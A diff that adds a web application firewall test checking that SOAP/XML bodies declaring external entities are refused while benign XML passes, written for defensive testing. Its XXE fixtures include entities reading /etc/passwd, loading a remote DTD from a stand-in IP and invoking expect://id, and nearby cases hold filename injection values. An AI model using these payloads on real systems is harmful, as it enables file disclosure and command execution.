@@ -293,6 +293,32 @@ def test_10275_reads_a_form_body_for_percent_signs_and_never_an_xml_document(
     assert got == status or (status == 400 and got == 403), (body[:60], got)
 
 
+# 10050 (stop 36): XXE in an XML body. SOAP, WebDAV and CAP endpoints parse XML; the back end's parser, not the WAF's,
+# would resolve the entity.
+_SOAP = ('<?xml version="1.0" encoding="UTF-8"?>\n{dtd}<soap:Envelope xmlns:soap="http://schemas.xmlsoap.org/soap/'
+         'envelope/"><soap:Body><queryZwgk><bt>{text}</bt></queryZwgk></soap:Body></soap:Envelope>')
+XXE = [_SOAP.format(dtd='<!DOCTYPE x [<!ENTITY xxe SYSTEM "file:///etc/passwd">]>\n', text="&xxe;"),
+       _SOAP.format(dtd='<!DOCTYPE x [<!ENTITY % d SYSTEM "http://203.0.113.5/x.dtd"> %d;]>', text="1"),
+       _SOAP.format(dtd='<!DOCTYPE x [\n  <!ENTITY  xxe  PUBLIC "-//x//EN" "http://203.0.113.5/y">\n]>', text="&xxe;"),
+       _SOAP.format(dtd='<!DOCTYPE x [<!ENTITY\txxe\tSYSTEM\t"expect://id">]>', text="&xxe;")]
+NOT_XXE = [_SOAP.format(dtd="", text="政府信息公开年报"),
+           _SOAP.format(dtd='<!DOCTYPE x [<!ENTITY org "某某市人民政府">]>', text="&org;"),  # internal: text only
+           _SOAP.format(dtd='<!DOCTYPE ectd:ectd SYSTEM "util/dtd/ich-ectd-3-2.dtd">\n', text="1"),  # eCTD's index
+           _SOAP.format(dtd="", text="申报 说明 提到 ENTITY SYSTEM 字样")]
+
+
+@pytest.mark.parametrize("profile", BLOCKING)
+@pytest.mark.parametrize("ctype", ["application/xml; charset=UTF-8", "text/xml"])
+def test_an_xml_body_declaring_an_external_entity_is_refused(tier: Tier, profile: str, ctype: str) -> None:
+    """10050: every blocking profile refuses an external entity's declaration (SYSTEM or PUBLIC, parameter entities
+    too) in a body parsed as XML; a document without one, an internal entity and an external DTD reference pass."""
+    def status(body: str) -> int:
+        q = as_citizens([Req("POST", "/ws/zwgk", {**attacks.BASE, "Content-Type": ctype}, body)])[0]
+        return send(tier.port, profile_host(profile), q, source=GATEWAY).status
+    assert [b for b in XXE if status(b) != 403] == []
+    assert [b for b in NOT_XXE if status(b) != 200] == []
+
+
 @pytest.mark.parametrize(("filename", "status"), [
     ("King's_College_London_Degree_Certificate.pdf", 200), ("O'Brien_简历.pdf", 200), ("l'Université_Paris.pdf", 200),
     ("a.php'", 403), ("'a.php", 403), ("a' .php", 403), ("a\\'.php", 403), ("x=.pdf", 403), ('a".pdf', 403),
